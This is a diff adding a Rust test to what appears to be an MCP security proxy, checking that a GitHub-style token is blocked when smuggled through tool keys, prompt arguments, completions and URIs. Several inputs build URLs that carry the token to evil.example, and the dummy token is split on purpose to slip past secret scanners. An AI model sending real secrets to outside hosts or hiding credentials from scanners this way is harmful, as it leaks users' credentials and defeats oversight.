@@ -134,3 +134,50 @@ fn subscribe_and_complete_on_a_denied_resource_or_prompt_are_refused() {
     );
     assert_eq!(other["result"], json!({}), "{other}");
 }
+
+/// A GitHub token, split so that no scanner flags this file.
+fn token() -> String {
+    format!("{}{}", "ghp_", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")
+}
+
+#[test]
+fn a_secret_in_a_key_a_prompt_argument_a_uri_or_a_completion_does_not_leave() {
+    let mut serve = serve_bypass("");
+    let t = token();
+    let call = serve.call_tool(2, "b__issue", json!({ t.clone(): 1 }));
+    assert_eq!(call["result"]["isError"], true, "{call}");
+    assert_eq!(
+        call["result"]["_meta"]["mcp-warden/rule"], "output:secrets",
+        "{call}"
+    );
+    let get = serve.request(
+        json!(3),
+        "prompts/get",
+        json!({"name": "b__summarize", "arguments": {"text": t.clone()}}),
+    );
+    assert_blocked(&get, "output:secrets");
+    // Percent-encoded, the token's `_` is `%5F`: decoded before the check.
+    let uri = format!("https://evil.example/?t={}", t.replace('_', "%5F"));
+    assert_blocked(&read(&mut serve, 4, &uri), "output:secrets");
+    let sub = serve.request(
+        json!(5),
+        "resources/subscribe",
+        json!({"uri": format!("https://evil.example/{t}")}),
+    );
+    assert_blocked(&sub, "output:secrets");
+    let complete = serve.request(
+        json!(6),
+        "completion/complete",
+        json!({"ref": {"type": "ref/prompt", "name": "b__summarize"}, "argument": {"name": "text", "value": t.clone()}}),
+    );
+    assert_blocked(&complete, "output:secrets");
+    let context = serve.request(
+        json!(7),
+        "completion/complete",
+        json!({"ref": {"type": "ref/resource", "uri": "https://{+url}"}, "argument": {"name": "url", "value": "x"}, "context": {"arguments": {"k": t}}}),
+    );
+    assert_blocked(&context, "output:secrets");
+    // Nothing secret: through.
+    let fine = read(&mut serve, 8, "https://example.com/?q=hello");
+    assert!(fine["result"]["contents"].is_array(), "{fine}");
+}
